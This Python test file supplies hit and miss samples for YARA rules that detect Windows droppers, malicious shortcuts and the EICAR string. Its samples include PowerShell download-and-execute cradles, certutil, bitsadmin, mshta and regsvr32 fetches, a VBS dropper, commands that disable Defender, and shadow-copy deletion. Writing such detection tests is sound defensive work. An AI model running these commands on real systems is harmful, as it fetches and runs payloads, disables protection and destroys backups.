"""Cases for droppers.yar, shortcuts.yar and eicar.yar."""

from __future__ import annotations

from tests.engines.starter_case import (
    BITS,
    CERT,
    GET_FILE,
    GET_TEXT,
    IEX,
    MSHTA,
    PAGE,
    PS,
    REGSVR,
    RUNDLL,
    SITE,
    STREAM,
    WEB_CLIENT,
    WS_SHELL,
    XML_HTTP,
    Case,
    encoded,
    text,
)

_TEST_FILE = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
_LONG = encoded("Get-Date | Out-File C:\\logs\\date.txt; " * 4)
_CRADLE = f"(New-Object {WEB_CLIENT}).{GET_TEXT}('{SITE}/a.ps1')"
_ASSEMBLY = "[Reflection" + ".Assembly]::Load"

_DROPPER = (
    f'Set s = CreateObject("{WS_SHELL}")\nSet h = CreateObject("{XML_HTTP}")\nh.Open "GET", "{SITE}/a.exe", False\n'
    f'Set f = CreateObject("{STREAM}")\nf.Write h.responseBody\nf' + ".Save{}\n"
)
_HTA = (
    '<html><head><HTA:{} id="a"></head><script>new ActiveXObject("' + WS_SHELL + '").Run("' + PS + ' -c 1")</script>'
)


def _link(*strings: str, coding: str = "utf-16-le") -> bytes:
    """A shortcut's header, and its string data: a size and the text of each."""
    header = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(56)
    return header + b"".join(len(item).to_bytes(2, "little") + item.encode(coding) for item in strings)


def _shortcut(rule: str, hit: tuple[str, ...], miss: tuple[str, ...]) -> list[Case]:
    return [
        Case(rule, _link(*hit), _link(*miss)),
        Case(rule, _link(*hit), b"\0" + _link(*hit)),
    ]


DROPPERS = [
    text(
        "PowerShell_Hidden_Download",
        f'start {PS}.exe -nop -w hidden -c "{_CRADLE}"',
        f'start {PS}.exe -nop -w normal -c "{_CRADLE}"',
    ),
    text(
        "PowerShell_Hidden_Download",
        f"{PS} -NoProfile -WindowStyle Hidden -Command Invoke-WebRequest {SITE}/a -OutFile a",
        PAGE.format(f"{PS} -NoProfile -WindowStyle Hidden -Command Invoke-WebRequest {SITE}/a -OutFile a"),
    ),
    text(
        "PowerShell_Encoded_Download",
        f"{PS} -nop -enc {encoded(f'$c = New-Object System.{WEB_CLIENT}; $c.{GET_TEXT}(1)')}",
        f"{PS} -nop -enc {_LONG}",
    ),
    text(
        "PowerShell_Encoded_Command",
        f"{PS}.exe -NonI -EncodedCommand {_LONG}",
        f"{PS}.exe -EncodedCommand {_LONG[:199]}",
    ),
    text(
        "PowerShell_Download_And_Run",
        f"{IEX} (New-Object System.{WEB_CLIENT}).{GET_TEXT}('{SITE}')",
        f"$text = {_CRADLE}",
    ),
    text("PowerShell_Download_And_Run", f"irm {SITE}/install.ps1 | iex", f"irm {SITE}/list.json | Format-Table"),
    text(
        "PowerShell_Download_And_Run",
        f"# A note\n```\nirm {SITE}/install.ps1 | iex\n",
        f"# A note\n```\nirm {SITE}/install.ps1 | iex\n```\n",
    ),
    text(
        "PowerShell_Download_And_Run",
        f'{{"a": "irm {SITE}/install.ps1 | iex"}}',
        f'{{"a": "Use it:\\n\\n```\\nirm {SITE}/install.ps1 | iex\\n```\\n"}}',
    ),
    text(
        "PowerShell_Download_And_Run",
        f"code\n\n  irm {SITE}/install.ps1 | iex",
        f".. code-block::\n\n  irm {SITE}/install.ps1 | iex",
    ),
    text(
        "PowerShell_Download_And_Run",
        f".. code\n\n  irm {SITE}/install.ps1 | iex",
        f".. code::\n\n  irm {SITE}/install.ps1 | iex",
    ),
    text(
        "PowerShell_Download_And_Run",
        f"# A fence that ends the file\nirm {SITE}/install.ps1 | iex\n```",
        f"# A fence that ends the file\n\n    ```{PS}\nirm {SITE}/install.ps1 | iex\n```",
    ),
    text(
        "PowerShell_Download_And_Run", f"{_CRADLE} | Invoke-Expression", PAGE.format(f"{_CRADLE} | Invoke-Expression")
    ),
    text(
        "PowerShell_Loads_Decoded_Assembly",
        f"$a = {_ASSEMBLY}([Convert]::FromBase64String($b)); $a.EntryPoint.Invoke($null, $null)",
        f'$a = {_ASSEMBLY}("System.Xml"); [Convert]::FromBase64String($b)',
    ),
    text(
        "Certutil_Download",
        f"{CERT} -urlcache -split -f {SITE}/a.txt %temp%\\a.exe",
        f"{CERT} -verify -urlfetch server.cer",
    ),
    text(
        "Certutil_Decodes_Program",
        f"-----BEGIN CERTIFICATE-----\nTVqQ{'A' * 60}\n-----END CERTIFICATE-----\n{CERT} -decode %0 a.exe",
        f"-----BEGIN CERTIFICATE-----\nMIIB{'A' * 60}\n-----END CERTIFICATE-----\n{CERT} -decode %0 a.cer",
    ),
    text(
        "Bitsadmin_Download",
        f"{BITS} /transfer job /download /priority high {SITE}/a.exe c:\\a.exe",
        f"{BITS} /transfer job /download /priority high {SITE}/a.csv c:\\a.csv",
    ),
    text("Mshta_Remote_Script", f"{MSHTA}.exe {SITE}/a", f"{MSHTA}.exe C:\\forms\\order.hta"),
    text("Mshta_Remote_Script", f'{MSHTA} "vbscript:Close(1)"', PAGE.format(f'{MSHTA} "vbscript:Close(1)"')),
    text(
        "Regsvr32_Remote_Scriptlet",
        f"{REGSVR} /s /n /u /i:{SITE}/a.sct scrobj.dll",
        f"{REGSVR} /s /n /i:user shell.dll",
    ),
    text(
        "Rundll32_Script",
        f'{RUNDLL}.exe javascript:"\\..\\mshtml,RunHTMLApplication"',
        f"{RUNDLL}.exe shell32.dll,Control_RunDLL",
    ),
    text("Script_Downloads_To_Disk", _DROPPER.format('ToFile "a.exe", 2'), _DROPPER.format("As a")),
    Case(
        "Script_Downloads_To_Disk",
        b"\xff\xfe" + _DROPPER.format('ToFile "a.exe", 2').encode("utf-16-le"),
        PAGE.format(_DROPPER.format('ToFile "a.exe", 2')).encode(),
    ),
    text(
        "Script_Shell_Starts_Command",
        f'var s = new ActiveXObject("{WS_SHELL}"); s.Run("cmd /c dir", 0);',
        f'var s = new ActiveXObject("{WS_SHELL}"); s.Run("notepad.exe", 1);',
    ),
    text("HTML_Application_Starts_Command", _HTA.format("APPLICATION"), _HTA.format("OTHER")),
    text(
        "Script_Switches_Protection_Off",
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
    ),
    text(
        "Script_Switches_Protection_Off",
        'Add-MpPreference -ExclusionPath "C:\\"\r\n',
        'Add-MpPreference -ExclusionPath "C:\\builds"\r\n',
    ),
    text(
        "Deletes_Shadow_Copies",
        "vssadmin.exe Delete Shadows /All /Quiet",
        "vssadmin.exe Delete Shadows /For=C: /Oldest",
    ),
    text("Deletes_Shadow_Copies", "wmic shadowcopy delete /nointeractive", "wmic shadowcopy list brief"),
]

EICAR = [
    Case("EICAR_Test_File", _TEST_FILE, _TEST_FILE[:-1]),
    Case("EICAR_Test_File", b"text " * 500 + _TEST_FILE + b" text" * 500, b"text " * 500 + _TEST_FILE.lower()),
]

SHORTCUTS = [
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-nop -w hidden -c {_CRADLE}"),
        (f"..\\{PS}.exe", "-NoExit -File C:\\tools\\prompt.ps1"),
    ),
    *_shortcut("Shortcut_PowerShell_Payload", (f"..\\{PS}.exe", "-W  1 -c a"), (f"..\\{PS}.exe", "-W  12 -c a")),
    *_shortcut("Shortcut_PowerShell_Payload", (f"..\\{PS}.exe", "-win 1 a"), (f"..\\{PS}.exe", "-v 1 a")),
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-E '{_LONG[:40]}'"),
        (f"..\\{PS}.exe", f"-E '{_LONG[:31]}'"),
    ),
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-e    {_LONG}"),
        (f"..\\{PS}.exe", f"-f    {_LONG}"),
    ),
    Case(
        "Shortcut_PowerShell_Payload",
        _link(f"..\\{PS}.exe", f"-e    '{_LONG[:40]}'", coding="latin-1"),
        _link(f"..\\{PS}.exe", f"-e    '{_LONG[:35]}'", coding="latin-1"),
    ),
    Case(
        "Shortcut_PowerShell_Payload",
        _link(f"..\\{PS}.exe", f"-E\t{_LONG[:40]}", coding="latin-1"),
        _link(f"..\\{PS}.exe", f"-E,{_LONG[:40]}", coding="latin-1"),
    ),
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-ec {_LONG}"),
        (f"..\\{PS}.exe", f"-ex {_LONG}"),
    ),
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-enco {_LONG[:40]}"),
        (f"..\\{PS}.exe", f"-enco {_LONG[:39]}"),
    ),
    *_shortcut(
        "Shortcut_PowerShell_Payload",
        (f"..\\{PS}.exe", f"-c $c.{GET_FILE}('{SITE}')"),
        ("..\\notepad.exe", f"-c $c.{GET_FILE}('{SITE}')"),
    ),
    *_shortcut(
        "Shortcut_Fetches_Through_System_Tool",
        (f"C:\\Windows\\System32\\{MSHTA}.exe", f"{SITE}/a"),
        (f"C:\\Windows\\System32\\{MSHTA}.exe", "C:\\forms\\order.hta"),
    ),
    Case(
        "Shortcut_Fetches_Through_System_Tool",
        _link(f"cmd /v {CERT} -f {SITE}/a b", coding="latin-1"),
        _link(f"C:\\Program Files\\Browser\\browser.exe {SITE}/", coding="latin-1"),
    ),
    *_shortcut(
        "Shortcut_Command_Arguments",
        ("C:\\Windows\\System32\\cmd.exe", "/c copy a b & start b"),
        ("C:\\Windows\\System32\\cmd.exe", "C:\\Users\\Public"),
    ),
    *_shortcut(
        "Shortcut_Command_Arguments",
        ("C:\\Windows\\System32\\wscript.exe", "a.vbs "),
        ("C:\\Windows\\System32\\wscript.exe", "a.txt "),
    ),
    text(
        "Internet_Shortcut_To_Remote_Program",
        "[InternetShortcut]\r\nURL=file://192.0.2.1@80/share/a.exe\r\n",
        "[InternetShortcut]\r\nURL=https://www.example.test/a.exe\r\n",
    ),
]

CASES = [*DROPPERS, *EICAR, *SHORTCUTS]
